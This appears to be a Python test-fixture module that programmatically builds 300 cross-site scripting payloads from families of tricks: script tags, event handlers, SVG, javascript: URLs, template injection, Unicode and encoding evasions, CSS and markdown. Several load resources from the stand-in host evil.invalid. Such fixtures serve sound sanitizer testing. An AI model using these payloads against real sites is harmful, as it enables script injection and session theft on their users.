"""Script-injection payloads, made by program from families of tricks.

Each of them, if it ran, would set `window.ran`, open a dialog, break the page's policy or ask a
server for something: `Trap` in test_payloads.py sees all four.
"""

from __future__ import annotations

from itertools import cycle, islice

COUNT = 300
#: What runs, spelled in several ways.
_DEEDS = (
    "window.ran=1",
    "alert(1)",
    "ran=self.ran=1",
    "fetch('/ran')",
    "window['r'+'an']=1",
    "top.ran=1",
    "import('/ran.js')",
    "eval('ran=1')",
    "Function('ran=1')()",
    "setTimeout('ran=1')",
)
_FAMILIES: dict[str, tuple[str, ...]] = {
    "script tags": (
        "<script>{deed}</script>",
        "<ScRiPt >{deed}</sCrIpT>",
        '<script src="//evil.invalid/{n}.js"></script>',
        "<script/x>{deed}</script>",
        "</script><script>{deed}</script>",
        "<scr<script>ipt>{deed}</scr</script>ipt>",
        "<script type=module>{deed}</script>",
        "</textarea><script>{deed}</script>",
        "</title><script>{deed}</script>",
    ),
    "event handlers": (
        '"><img src=x{n} onerror="{deed}">',
        "'><img src=x{n} onerror='{deed}'>",
        "<img src=x onerror={deed}//",
        "<body onload={deed}>",
        '" onmouseover="{deed}" x="',
        "' onfocus='{deed}' autofocus='",
        "<input autofocus onfocus={deed}>",
        "<details open ontoggle={deed}>",
        "<video><source onerror={deed}></video>",
        "<audio src=x onerror={deed}>",
        "<marquee onstart={deed}>",
    ),
    "svg and math": (
        "<svg onload={deed}>",
        "<svg/onload={deed}//",
        "<svg><script>{deed}</script></svg>",
        "<svg><animate onbegin={deed} attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:{deed}"><text y=20>{n}</text></a></svg>',
        "<math><mtext></p><img src onerror={deed}>",
        '<svg><use href="data:image/svg+xml,<svg id=x onload={deed}>#x"/></svg>',
    ),
    "frames and objects": (
        '<iframe src="javascript:{deed}"></iframe>',
        '<iframe srcdoc="<script>{deed}</script>"></iframe>',
        '<object data="javascript:{deed}"></object>',
        '<embed src="javascript:{deed}">',
        '<base href="//evil.invalid/">',
        '<meta http-equiv="refresh" content="0;url=//evil.invalid/{n}">',
        '<form action="//evil.invalid"><button>{n}</button></form>',
        '<link rel=stylesheet href="//evil.invalid/{n}.css">',
    ),
    "addresses": (
        "javascript:{deed}//{n}",
        "JaVaScRiPt:{deed}",
        "java\tscript:{deed}",
        "data:text/html,<script>{deed}</script>",
        "vbscript:{deed}",
        "#/operations?user=<img src=x onerror={deed}>",
        '<a href="javascript:{deed}">{n}</a>',
        "//evil.invalid/{n}",
    ),
    "templates": (
        "{{{{constructor.constructor('{deed}')()}}}}",
        "${{{deed}}}",
        "<%= {deed} %>",
        "#{{{deed}}}",
        "{{% {deed} %}}",
        "[[${{{deed}}}]]",
        "__proto__[onload]={deed}",
        '{{"dangerouslySetInnerHTML":{{"__html":"<img src=x onerror={deed}>"}}}}',
        '{{"type":"script","props":{{"children":"{deed}"}},"__k":null}}',
    ),
    "letters": (
        "\u202e<script>{deed}</script>\u202c",
        "\uff1cscript\uff1e{deed}\uff1c/script\uff1e",
        "<\u200bscript>{deed}</script>",
        "\ufeff<img src=x onerror={deed}>",
        "\u2028<script>{deed}</script>\u2029",
        "<ſcript>{deed}</ſcript>",
        "שלום<img src=x onerror={deed}>日本語",
        "\U0001f600<svg onload={deed}>",
    ),
    "styles": (
        "<style>*{{background:url(//evil.invalid/{n})}}</style>",
        '"style="background:url(//evil.invalid/{n})',
        "<div style=\"background-image:url('javascript:{deed}')\">",
        "<style>@import '//evil.invalid/{n}.css';</style>",
        "</style><script>{deed}</script>",
        "expression({deed})",
    ),
    "markdown": (
        "[{n}](javascript:{deed})",
        "![{n}](//evil.invalid/{n}.png)",
        '![x](x"onerror="{deed})',
        "<javascript:{deed}>",
        "[x]: javascript:{deed}",
        "```html\n<script>{deed}</script>\n```",
    ),
    "broken encodings": (
        "%3Cscript%3E{deed}%3C/script%3E",
        "&lt;script&gt;{deed}&lt;/script&gt;",
        "&#60;script&#62;{deed}&#60;/script&#62;",
        "\\u003cscript\\u003e{deed}\\u003c/script\\u003e",
        "\\x3cscript\\x3e{deed}\\x3c/script\\x3e",
        "+ADw-script+AD4-{deed}+ADw-/script+AD4-",
        "\ufffd<script>{deed}</script>",
        "<!--><script>{deed}</script>-->",
        "<![CDATA[<script>{deed}</script>]]>",
        "]]><img src=x onerror={deed}>",
    ),
}  # fmt: skip


def payloads(count: int = COUNT) -> list[str]:
    """So many that differ, of every family alike."""
    families = [cycle(shapes) for shapes in _FAMILIES.values()]
    deeds = cycle(_DEEDS)
    shapes = (next(family) for family in cycle(families))
    made: dict[str, None] = {}
    for n, shape in enumerate(islice(shapes, 20 * count)):
        # Another deed than the last time this shape was used.
        made[shape.format(deed=next(deeds), n=n)] = None
        if n % len(_DEEDS) == 0:
            next(deeds)
        if len(made) == count:
            break
    return list(made)
